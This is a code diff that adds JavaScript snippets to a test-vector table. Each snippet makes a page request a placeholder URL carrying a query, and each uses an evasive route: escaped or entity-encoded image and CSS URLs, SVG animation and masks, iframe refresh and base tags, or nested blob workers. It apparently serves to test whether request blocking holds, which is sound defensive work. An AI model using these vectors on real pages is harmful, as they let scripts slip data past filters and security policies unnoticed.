@@ -142,6 +142,32 @@ export const scriptVectors: Readonly<Record<string, string>> = {
   'write-script': 'document.write(`<script src="$/t.js${q}"><\\/script>`);',
   'write-pieces': "document.write('<scr'); document.write(`ipt src=\"$/t.js${q}\"></scr`); document.write('ipt>');",
   form: "const f = document.createElement('iframe'); f.name = 'post'; document.body.append(f); const m = document.createElement('form'); m.method = 'post'; m.target = 'post'; m.action = `$/hit${q}`; document.body.append(m); m.submit();",
+  'image-backslash':
+    "const d = document.createElement('div'); const u = `$/p.gif${q}`.replaceAll('/', '\\\\'); d.innerHTML = `<img src=\"${u}\">`;",
+  'image-tab':
+    "const d = document.createElement('div'); const u = `$/p.gif${q}`.replaceAll('/', '/\\t'); d.innerHTML = `<img src=\"${u}\">`;",
+  'image-named':
+    "const d = document.createElement('div'); const u = `$/p.gif${q}`.replaceAll('/', '&sol;').replace('.', '&period;'); d.innerHTML = `<img src=${u}>`;",
+  'style-escapes':
+    "const d = document.createElement('div'); document.body.append(d); const u = `$/p.gif${q}`.replace(/[/:a]/g, c => `\\\\${c.charCodeAt(0).toString(16)} `); d.innerHTML = `<p style='width: 9px; height: 9px; background: url(${u})'></p>`;",
+  'style-sheet-escapes':
+    "const s = document.createElement('style'); s.textContent = `@import '${`$/style.css${q}`.replace(/[/:a]/g, c => `\\\\${c.charCodeAt(0).toString(16).padStart(6, 0)}`)}';`; document.head.append(s);",
+  'sheet-xml':
+    "document.insertBefore(document.createProcessingInstruction('xml-stylesheet', `href='$/style.css${q}' type='text/css'`), document.documentElement);",
+  // WebKit takes no address from it.
+  'svg-set':
+    "const d = document.createElement('div'); document.body.append(d); d.innerHTML = `<svg><image width='9' height='9'><set attributeName='href' to='$/p.gif${q}'/></image></svg>`;",
+  'svg-animate':
+    "const make = (name, given) => { const e = document.createElementNS('http://www.w3.org/2000/svg', name); for (const each in given) e.setAttribute(each, given[each]); return e; }; const i = make('image', {width: 9, height: 9}); i.append(make('animate', {attributeName: 'href', values: `$/p.gif${q};$/p.gif${q}`, dur: '1s', repeatCount: 'indefinite'})); const svg = make('svg', {}); svg.append(i); document.body.append(svg);",
+  'svg-mask':
+    "const d = document.createElement('div'); document.body.append(d); d.innerHTML = `<svg><rect width='9' height='9' mask='url($/p.gif${q}#a)'/></svg>`;",
+  'svg-mask-set':
+    "const r = document.createElementNS('http://www.w3.org/2000/svg', 'rect'); r.setAttribute('width', '9'); r.setAttribute('height', '9'); r.setAttribute('mask', `url($/p.gif${q}#a)`); const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); svg.append(r); document.body.append(svg);",
+  'frame-refresh':
+    "const f = document.createElement('iframe'); f.srcdoc = `<meta http-equiv='refresh' content='0;url=$/frame${q}'>`; document.body.append(f);",
+  'frame-base': "const f = document.createElement('iframe'); f.srcdoc = `<base href='$/'><img src='p.gif${q}'>`; document.body.append(f);",
+  'worker-nested':
+    "const inner = `fetch('$/hit${q}').catch(() => {})`; new Worker(URL.createObjectURL(new Blob([`new Worker(URL.createObjectURL(new Blob([${JSON.stringify(inner)}])))`])));",
   'style-rule-style':
     "const s = document.createElement('style'); document.head.append(s); const d = document.createElement('div'); d.id = id; document.body.append(d); s.sheet.insertRule(`#${id} { width: 9px; height: 9px }`); s.sheet.cssRules[0].style.backgroundImage = `url($/p.gif${q})`;",
   // Firefox has no map of a rule's style.
